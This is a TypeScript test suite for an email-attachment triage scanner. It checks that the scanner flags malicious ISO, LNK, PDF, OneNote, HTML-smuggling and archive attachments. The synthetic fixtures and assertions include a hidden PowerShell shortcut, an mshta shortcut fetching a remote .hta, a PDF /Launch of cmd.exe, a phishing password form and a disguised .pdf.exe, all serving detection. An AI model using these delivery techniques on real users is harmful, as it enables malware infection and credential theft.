/** PDFs, disk images, shortcuts, OneNote, HTML smuggling, encrypted and unopened archives, on synthetic files. */
import { describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { fileURLToPath } from "node:url";
import { triageFile, type TriageResult } from "../src/email/index.js";
import { inspectContent } from "../src/email/content.js";
import { containerKind, listIso, readShellLink } from "../src/email/containers.js";
import { inspectPdf, PDF_BOUNDS } from "../src/email/pdf.js";
import { inspectHtml } from "../src/email/smuggling.js";
import { buildIso, buildLnk, buildOneNote } from "./fixtures/email/build-containers.js";
import { buildPdf } from "./fixtures/email/build-pdf.js";
import { messageWithAttachments } from "./helpers/mail.js";

const DIR = fileURLToPath(new URL("./fixtures/email/", import.meta.url));
const triageFixture = async (name: string): Promise<TriageResult> =>
  (await triageFile(readFileSync(DIR + name), name))[0]!;
const refsOf = (r: { reasons: TriageResult["reasons"] }, code: string): string[] =>
  r.reasons.filter((x) => x.code === code).map((x) => x.evidence.ref);

describe("containers in mail", () => {
  it("opens the ISO, reads the shortcut inside it, and reports each container by its path", async () => {
    const r = await triageFixture("containers.eml");
    expect(r.verdict).toBe("malicious");
    expect(r.reasons.find((x) => x.code === "lnk.script-host")).toMatchObject({
      evidence: {
        ref: "delivery.iso > DELIVERY.PDF.LNK",
        value: expect.stringMatching(
          /^C:\\Windows\\System32\\WindowsPowerShell\\v1\.0\\powershell\.exe -w hidden/,
        ),
      },
    });
    expect(refsOf(r, "container.executable")).toEqual(["delivery.iso > DELIVERY.PDF.LNK"]);
    expect(refsOf(r, "container.disk-image").sort()).toEqual(["delivery.iso", "disk.vhdx"]);
    expect(refsOf(r, "onenote.embedded-script")).toEqual(["notes.one > embedded file 1"]);
    expect(r.reasons.find((x) => x.code === "attachment.archive-encrypted")?.message).toMatch(
      /documents\.zip is an encrypted archive .*could not be inspected, a common way to slip malware past filters/,
    );
    expect(refsOf(r, "attachment.archive-not-inspected").sort()).toEqual(["archive.rar", "backup.7z"]);
    expect(r.notChecked).toEqual(
      expect.arrayContaining([
        "the contents of archive.rar (rar archives are recognised, not opened)",
        "the files inside disk.vhdx (VHDX images are recognised, not listed)",
      ]),
    );
    // the URL in the shortcut's arguments is a link of the message
    expect(r.links).toContainEqual(
      expect.objectContaining({ url: "https://cdn-invoices.example/s.ps1", attachment: "delivery.iso" }),
    );
    // the disk image is reported once, from its bytes, not again from its name
    expect(refsOf(r, "attachment.disk-image")).toEqual([]);
  });

  it("finds JavaScript run on opening behind a hex-escaped name, and the smuggled zip's script", async () => {
    const r = await triageFixture("pdf-html.eml");
    expect(r.verdict).toBe("malicious");
    expect(r.reasons.find((x) => x.code === "pdf.obfuscated-names")?.evidence).toEqual({
      kind: "attachment",
      ref: "statement.pdf",
      value: "/J#61vaScript",
    });
    expect(refsOf(r, "pdf.javascript-on-open")).toEqual(["statement.pdf"]);
    expect(r.links.filter((l) => l.attachment === "statement.pdf").map((l) => l.url)).toEqual([
      "https://files-share.example/d/statement",
      "https://statement-view.example/open",
    ]);
    const smuggling = r.reasons.find((x) => x.code === "html.smuggling")!;
    expect(smuggling.evidence.ref).toBe("statement.html");
    expect(smuggling.message).toMatch(/new Blob.*atob.*The payload is a zip archive\./);
    expect(refsOf(r, "container.executable")).toEqual(["statement.html > base64 payload > statement.js"]);
  });
});

describe("PDF scan", () => {
  const page = [
    { dict: "<< /Type /Catalog /Pages 2 0 R >>" },
    { dict: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
    { dict: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>" },
  ];

  it("says nothing about a plain document, and reads /Launch, forms and embedded files", () => {
    expect(inspectPdf(buildPdf(page), "plain.pdf").reasons).toEqual([]);
    const risky = buildPdf([
      { dict: "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> /AcroForm 5 0 R >>" },
      page[1]!,
      {
        dict: "<< /Type /Page /Parent 2 0 R /AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >> >>",
      },
      { dict: "<< /Names [(a.exe) << /Type /Filespec /EF << /F 6 0 R >> >>] >>" },
      { dict: "<< /Fields [] /XFA 7 0 R >>" },
      { dict: "<< /Type /EmbeddedFile >>", stream: "MZ", flate: true },
      { dict: "<< /S /SubmitForm /F (https://collect.example/form) >>" },
    ]);
    const r = inspectPdf(risky, "form.pdf");
    expect(r.reasons.map((x) => x.code).sort()).toEqual([
      "pdf.embedded-file",
      "pdf.form-submit",
      "pdf.launch",
      "pdf.xfa",
    ]);
    expect(r.reasons.find((x) => x.code === "pdf.launch")?.evidence.value).toBe("cmd.exe");
    expect(r.urls).toEqual(["https://collect.example/form"]);
  });

  it("bounds the streams it inflates and says when a bound cut the scan", () => {
    const bomb = buildPdf([
      ...page,
      { dict: "<< >>", stream: Buffer.alloc(PDF_BOUNDS.maxStreamBytes + 1024), flate: true },
    ]);
    expect(bomb.length).toBeLessThan(100_000);
    expect(inspectPdf(bomb, "bomb.pdf").notChecked).toEqual([
      expect.stringMatching(/^bomb\.pdf: the rest of a stream that inflates past \d+ bytes/),
    ]);
    const many = buildPdf([
      ...page,
      ...Array.from({ length: PDF_BOUNDS.maxStreams + 3 }, (_, i) => ({
        dict: "<< >>",
        stream: `q ${i} Q`,
        flate: true,
      })),
      { dict: "<< >>", stream: "<< /S /JavaScript /JS (app.alert(1)) >>", flate: true },
    ]);
    const r = inspectPdf(many, "many.pdf");
    expect(r.notChecked).toEqual([
      `many.pdf: streams after the first ${PDF_BOUNDS.maxStreams} (bounded scan)`,
    ]);
    // the JavaScript past the bound was not seen: said, not guessed
    expect(r.reasons).toEqual([]);
  });

  it("survives a damaged stream and a truncated file", () => {
    const broken = Buffer.concat([
      buildPdf(page),
      Buffer.from("9 0 obj << /Filter /FlateDecode >> stream\n", "latin1"),
      deflateSync(Buffer.from("/JS (x)")).subarray(0, 5),
    ]);
    expect(() => inspectPdf(broken, "broken.pdf")).not.toThrow();
    expect(() => inspectPdf(broken.subarray(0, 40), "cut.pdf")).not.toThrow();
  });
});

describe("disk images and shortcuts", () => {
  it("lists an ISO's files with their bytes, and refuses directory loops and garbage", () => {
    const iso = buildIso([
      { name: "A.TXT", data: Buffer.from("alpha") },
      { name: "B.BIN", data: Buffer.alloc(5000, 7) },
    ]);
    expect(containerKind(iso)).toBe("iso");
    const { files } = listIso(iso);
    expect(files.map((f) => [f.path, f.size, f.bytes?.length])).toEqual([
      ["A.TXT", 5, 5],
      ["B.BIN", 5000, 5000],
    ]);
    const garbage = Buffer.from(iso);
    garbage.fill(0xff, 19 * 2048, 20 * 2048);
    expect(() => listIso(garbage)).not.toThrow();
    expect(inspectContent(iso.subarray(0, 0x8010), "cut.iso", "iso").reasons.map((x) => x.code)).toEqual([
      "container.disk-image",
    ]);
  });

  it("reads a shortcut's target and arguments, and what it can of a truncated one", () => {
    const lnk = buildLnk({
      target: "C:\\Windows\\System32\\mshta.exe",
      arguments: "https://x.example/a.hta",
    });
    expect(readShellLink(lnk)).toEqual({
      target: "C:\\Windows\\System32\\mshta.exe",
      arguments: "https://x.example/a.hta",
    });
    expect(readShellLink(lnk.subarray(0, lnk.length - 20))?.target).toBe("C:\\Windows\\System32\\mshta.exe");
    const benign = inspectContent(buildLnk({ target: "D:\\Reports\\2026.xlsx" }), "report.lnk", "lnk");
    expect(benign.reasons.map((x) => [x.code, x.weight])).toEqual([["lnk.target", 0]]);
  });

  it("follows files inside files only to the depth bound", () => {
    let inner = buildLnk({ target: "C:\\Windows\\System32\\cmd.exe", arguments: "/c echo" });
    for (let i = 0; i < 6; i++) inner = buildIso([{ name: `L${i}.ISO`, data: inner }]);
    const r = inspectContent(inner, "deep.iso", "iso");
    expect(r.notChecked.some((n) => /nested deeper than 3 levels/.test(n))).toBe(true);
    expect(r.reasons.some((x) => x.code === "lnk.script-host")).toBe(false);
  });

  it("reads OneNote embedded files without a script as files only", () => {
    const r = inspectContent(buildOneNote([Buffer.from("%PDF-1.7\n")]), "notes.one", "one");
    expect(r.reasons.map((x) => x.code)).toEqual(["onenote.embedded-file"]);
  });
});

describe("HTML attachments", () => {
  it("leaves a newsletter with a small inline image alone, and flags a password form", () => {
    const newsletter = `<html><body><img src="data:image/png;base64,${"iVBORw0KGgo".repeat(20)}"><p>News</p></body></html>`;
    expect(inspectHtml(Buffer.from(newsletter), "news.html").reasons).toEqual([]);
    const login =
      '<form action="https://collect.example/p" method="post"><input name="u"><input type="password" name="p"></form>';
    const r = inspectHtml(Buffer.from(login), "login.html");
    expect(r.reasons.map((x) => x.code)).toEqual(["html.password-form"]);
    expect(r.urls).toEqual(["https://collect.example/p"]);
  });

  it("stays linear on a megabyte of hostile markup", () => {
    const hostile = Buffer.from("<a download=x href=".repeat(50_000) + "A".repeat(1_000_000));
    const r = inspectHtml(hostile, "x.html");
    expect(r.payload?.length).toBeGreaterThan(700_000);
  });
});

describe("RAR, 7-Zip and other archives, listed by 7-Zip", () => {
  const message = (attachments: Array<{ name: string; data: Buffer }>): Buffer =>
    Buffer.from(
      messageWithAttachments(attachments, {
        from: "Courier <parcel@courier-notice.example>",
        subject: "your documents",
      }),
    );

  /** 7-Zip archives made by the same 7-Zip build that lists them. */
  async function make7z(files: Array<{ name: string; data: Buffer }>, args: string[]): Promise<Buffer> {
    const { createRequire } = await import("node:module");
    const factory = createRequire(import.meta.url)("7z-wasm") as (o: object) => Promise<{
      FS: { writeFile(p: string, d: Uint8Array): void; readFile(p: string): Uint8Array };
      callMain(a: string[]): void;
    }>;
    const sz = await factory({ print: () => {}, printErr: () => {} });
    for (const f of files) sz.FS.writeFile(`/${f.name}`, f.data);
    sz.callMain(["a", "-t7z", "-bsp0", "-bso0", ...args, "/out.7z", ...files.map((f) => `/${f.name}`)]);
    return Buffer.from(sz.FS.readFile("/out.7z"));
  }

  it("lists a RAR archive's entries and finds the executable inside, without unpacking it", async () => {
    const { buildRar5 } = await import("./fixtures/email/build-rar.js");
    const rar = buildRar5([
      { name: "Invoice_2026.pdf.exe", data: Buffer.from("MZ not really a program") },
      { name: "readme.txt", data: Buffer.from("please open the invoice") },
    ]);
    const [r] = await triageFile(message([{ name: "documents.rar", data: rar }]), "rar.eml");
    expect(refsOf(r!, "attachment.archive-executable")).toEqual(["documents.rar > Invoice_2026.pdf.exe"]);
    expect(r!.verdict).toBe("malicious");
    expect(r!.attachments[0]!.entries?.map((e) => [e.path, e.size])).toEqual([
      ["Invoice_2026.pdf.exe", 23],
      ["readme.txt", 23],
    ]);
    // the "recognised, not opened" note gave way to the listing
    expect(refsOf(r!, "attachment.archive-not-inspected")).toEqual([]);
    expect(r!.notChecked).toContain(
      "the files inside documents.rar (a RAR archive: listed by name and size, not unpacked)",
    );
  });

  it("lists a 7-Zip archive, and says when its entries or even its names are behind a password", async () => {
    const script = { name: "scan.js", data: Buffer.from("WScript.Shell") };
    const note = { name: "note.txt", data: Buffer.from("hello") };
    const plain = await make7z([script, note], []);
    const locked = await make7z([script, note], ["-pinfected"]);
    const hidden = await make7z([script], ["-pinfected", "-mhe=on"]);
    const [r] = await triageFile(
      message([
        { name: "plain.7z", data: plain },
        { name: "locked.7z", data: locked },
        { name: "hidden.7z", data: hidden },
      ]),
      "7z.eml",
    );
    expect(refsOf(r!, "attachment.archive-executable").sort()).toEqual([
      "locked.7z > scan.js",
      "plain.7z > scan.js",
    ]);
    const encrypted = r!.reasons.filter((x) => x.code === "attachment.archive-encrypted");
    expect(encrypted.map((x) => x.evidence.ref).sort()).toEqual(["hidden.7z", "locked.7z"]);
    expect(encrypted.find((x) => x.evidence.ref === "hidden.7z")!.message).toMatch(/even its file names/);
    expect(encrypted.find((x) => x.evidence.ref === "locked.7z")!.message).toMatch(
      /2 entries behind a password/,
    );
    expect(r!.notChecked).toContain(
      "the contents of hidden.7z (a 7-Zip archive): its file names are encrypted (a password is needed to list them)",
    );
  });

  it("keeps a damaged archive as not inspected, and survives garbage after a valid signature", async () => {
    const { buildRar5 } = await import("./fixtures/email/build-rar.js");
    const rar = buildRar5([{ name: "a.txt", data: Buffer.from("x".repeat(100)) }]);
    const cut = rar.subarray(0, 20); // inside the first file header
    const junk = Buffer.concat([rar.subarray(0, 8), Buffer.alloc(5000, 0xff)]);
    const [r] = await triageFile(
      message([
        { name: "cut.rar", data: cut },
        { name: "junk.rar", data: junk },
      ]),
      "bad.eml",
    );
    expect(refsOf(r!, "attachment.archive-not-inspected").sort()).toEqual(["cut.rar", "junk.rar"]);
    // 7-Zip's own exit code never leaks into the process's
    expect(process.exitCode ?? 0).toBe(0);
    expect(
      r!.notChecked.filter((n) => /^the contents of (cut|junk)\.rar \(a RAR archive\)/.test(n)),
    ).toHaveLength(2);
  });
});
